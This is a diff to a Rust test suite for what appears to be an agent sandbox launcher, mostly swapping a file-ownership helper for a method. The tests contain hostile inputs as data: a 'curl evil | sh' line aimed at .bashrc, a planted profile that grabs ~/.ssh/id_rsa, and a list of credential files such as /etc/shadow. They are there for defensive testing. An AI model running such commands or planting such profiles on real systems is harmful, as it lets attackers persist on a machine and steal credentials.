@@ -93,44 +93,11 @@ fn can_run_as(test: &str, who: As) -> bool {
         )
 }
 
-/// A scratch directory prepared for `who`: for nobody, everything belongs to nobody and is
-/// readable (dirs 0755, files 0644, never group/other-writable), so any denial is the
-/// sandbox's, not the file mode's.
+/// A scratch directory readable by others; [`Scratch::hand_to`] gives it to nobody.
 fn scratch() -> Scratch {
     let s = Scratch::new();
     std::fs::set_permissions(s.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
     s
-}
-
-fn hand_over(s: &Scratch, who: As) {
-    if who == As::Root {
-        return;
-    }
-    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
-        let dir = e.is_dir();
-        std::os::unix::fs::lchown(&e, Some(NOBODY), Some(NOBODY)).unwrap();
-        if !e.is_symlink() {
-            let mode = if dir { 0o755 } else { 0o644 };
-            let keep_x = std::fs::metadata(&e).unwrap().permissions().mode() & 0o100;
-            std::fs::set_permissions(
-                &e,
-                std::fs::Permissions::from_mode(
-                    mode | if dir { 0 } else { keep_x * 0o111 / 0o100 },
-                ),
-            )
-            .unwrap();
-        }
-    }
-}
-
-fn walk(p: &Path) -> Vec<PathBuf> {
-    let mut out = vec![p.to_path_buf()];
-    if p.is_dir() && !p.is_symlink() {
-        for e in std::fs::read_dir(p).unwrap().flatten() {
-            out.extend(walk(&e.path()));
-        }
-    }
-    out
 }
 
 /// `check --json` as `who` (landlock_abi, pid_namespace, ...).
@@ -243,7 +210,7 @@ log = "{}"
             audit.display()
         ),
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let mut s = s;
     s.env.insert("SRC_TOKEN".into(), DECLARED.into());
     s.env.insert("VAULT_TOKEN".into(), LAUNCHER_ONLY.into());
@@ -424,7 +391,7 @@ fn abstract_sockets_stay_scoped_with_unix_sockets() {
             // exist in the child's own namespace).
             &format!("version = 1\n[sandbox]\nwrite = [\".\"]\nunix_sockets = true\nconnect = [9]\n[env]\nset = {{ NAME = \"{name}\" }}\n"),
         );
-        hand_over(&s, who);
+        s.hand_to(who);
         std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
         let code = r#"
 import errno, os, socket
@@ -568,7 +535,7 @@ fn check_reports_abi_and_pid_namespace() {
         let work = s.path().join("work");
         std::fs::create_dir_all(&work).unwrap();
         s.profile("c", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/c.toml");
         let j = check_json(&s, who, &work, p.to_str().unwrap());
         let sb = &j["sandbox"];
@@ -603,7 +570,7 @@ fn ordinary_programs_run_under_the_default_policy() {
         assert!(git.success());
         s.file("work/README", "hello\n");
         s.profile("d", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/d.toml");
         let p = p.to_str().unwrap();
         let mut cases: Vec<(&str, Vec<&str>, &str)> = vec![
@@ -651,7 +618,7 @@ fn sigkilled_launcher_leaves_no_survivors() {
         let work = s.path().join("work");
         std::fs::create_dir_all(work.join("up")).unwrap();
         s.profile("n", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/n.toml");
         let j = check_json(&s, who, &work, p.to_str().unwrap());
         if !require(
@@ -704,7 +671,7 @@ fn signals_and_exit_codes_through_the_pid_namespace() {
         let work = s.path().join("work");
         std::fs::create_dir_all(&work).unwrap();
         s.profile("x", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/x.toml");
         let p = p.to_str().unwrap();
         let code = |script: &str| {
@@ -764,7 +731,7 @@ fn no_ports_no_network(who: As, tag: &str) {
             work.display()
         ),
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let o = s
         .agentrun()
         .user(who)
@@ -844,7 +811,7 @@ fn later_runs_cannot_be_set_up(who: As, tag: &str) {
         "version = 1\n[env]\npass = [\"PATH\", \"HOME\"]\n[secrets]\nTOKEN = \"file:sub/deep/token.txt\"\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
     let audit = work.join("audit/audit.jsonl");
-    hand_over(&s, who);
+    s.hand_to(who);
     let before: Vec<(PathBuf, String)> = [&profile, &env, &token, &work.join(".git/config")]
         .iter()
         .map(|p| ((*p).clone(), std::fs::read_to_string(p).unwrap()))
@@ -1058,7 +1025,7 @@ fn dotenv_expands_nothing(who: As, tag: &str) {
         "work/p.toml",
         "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let grab = [
         "-p",
         "p.toml",
@@ -1122,7 +1089,7 @@ fn planted_profile_is_shadowed(who: As, tag: &str) {
         "work/profiles/research.toml",
         "version = 1\n[env]\nset = { WHO = \"planted\" }\n[secrets]\nSTOLEN = \"file:~/.ssh/id_rsa\"\n[sandbox]\nread = [\"/\"]\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let o = s
         .agentrun()
         .user(who)
@@ -1183,7 +1150,7 @@ fn backend_files_are_kept(who: As, tag: &str) {
         script.push_str(&format!("cat {} ; echo {var}=$?\n", p.display()));
     }
     s.file("work/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let o = s
         .agentrun()
         .user(who)
@@ -1427,7 +1394,7 @@ fn linked_sources_are_refused(who: As, tag: &str) {
         "work/v.toml",
         "version = 1\n[vault]\naddress = \"http://127.0.0.1:1\"\ntoken = \"file:vault-token\"\n[secrets]\nTOKEN = \"vault:secret/x#f\"\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let grab = |p: &str| {
         s.agentrun()
             .user(who)
@@ -1508,7 +1475,7 @@ fn optional_secret_left_out(who: As, tag: &str) {
         "work/p.toml",
         "version = 1\n[secrets]\nOPT = { from = \"file:opt.txt\", required = false, verify = { min_length = 200 } }\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let o = s
         .agentrun()
         .user(who)
@@ -1553,7 +1520,7 @@ fn foreign_profiles_are_refused(who: As, tag: &str) {
     let foreign = s.file("work/profiles/x.toml", text);
     s.file("work/shared/y.toml", text);
     s.file("work/mine/z.toml", text);
-    hand_over(&s, who);
+    s.hand_to(who);
     let other = if who == As::Root { NOBODY } else { 1 };
     std::os::unix::fs::chown(&foreign, Some(other), Some(other)).unwrap();
     std::fs::set_permissions(&foreign, std::fs::Permissions::from_mode(0o644)).unwrap();
@@ -1619,7 +1586,7 @@ fn dotenv_with_more_than_declared(who: As, tag: &str) {
         "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
     let env_file = s.file("work/.env", "");
-    hand_over(&s, who);
+    s.hand_to(who);
     for (text, readable) in [
         (
             format!("# DB_PASSWORD=commented-out-Pw7Hn2\nAPI_KEY={DECLARED}\n"),
@@ -1754,7 +1721,7 @@ fn planted_shebang(who: As, tag: &str) {
         std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o755)).unwrap();
     }
     let profile = s.file("profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let audit = s.path().join("audit.jsonl");
     for (script, refused) in [("./cr.sh", false), ("./dir.sh", true)] {
         let o = s
@@ -1815,7 +1782,7 @@ fn unkeepable_inputs(who: As, tag: &str) {
     std::fs::hard_link(work.join("conf/linked.toml"), work.join("conf/.hl")).unwrap();
     std::os::unix::fs::symlink("conf/agent.toml", work.join("agent.toml")).unwrap();
     std::os::unix::fs::symlink(s.path().join("home"), work.join("assets")).unwrap();
-    hand_over(&s, who);
+    s.hand_to(who);
     let audit = s.path().join("audit.jsonl");
     let a = audit.to_str().unwrap();
     let cases = [
@@ -1874,7 +1841,7 @@ fn git_beyond_the_top_level(who: As, tag: &str) {
     git(&main, &["commit", "-qm", "one"]);
     git(&main, &["worktree", "add", "-q", "../wt"]);
     let profile = s.file("profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let before = std::fs::read_to_string(main.join(".git/config")).unwrap();
     let code = r#"
 import errno, os, subprocess, sys
@@ -1980,7 +1947,7 @@ fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
     // The scratch's home, outside /tmp and the working directory.
     let home = s.home_dir.path().to_path_buf();
     s.file("home/.bashrc", "# rc\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let attack = "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo rc=$?";
     let home_s = home.display().to_string();
     let mut cases: Vec<(&str, &Path, String, Option<&str>, String)> = vec![
@@ -2100,7 +2067,7 @@ fn startup_files_stay_out_of_explicit_write_roots(who: As, tag: &str) {
             &format!("version = 1\n[sandbox]\nwrite = [\"{write}\", \"/tmp\"]\n"),
         );
     }
-    hand_over(&s, who);
+    s.hand_to(who);
     for p in ["h.toml", "a.toml"] {
         let o = s
             .agentrun()
@@ -2181,7 +2148,7 @@ fn system_credential_stores_stay_closed(who: As, tag: &str) {
     std::fs::create_dir_all(&work).unwrap();
     s.file("work/d.toml", "version = 1\n");
     s.file("work/r.toml", "version = 1\n[sandbox]\nread = [\"/\"]\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let mut stores: Vec<String> = [
         "/etc/shadow",
         "/etc/gshadow",
@@ -2262,7 +2229,7 @@ fn a_directory_on_stdin_is_no_way_out(who: As, tag: &str) {
     let s = scratch();
     let work = s.path().join("work");
     s.file("work/profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let script = r#"
 import os, stat
 st = os.fstat(3)
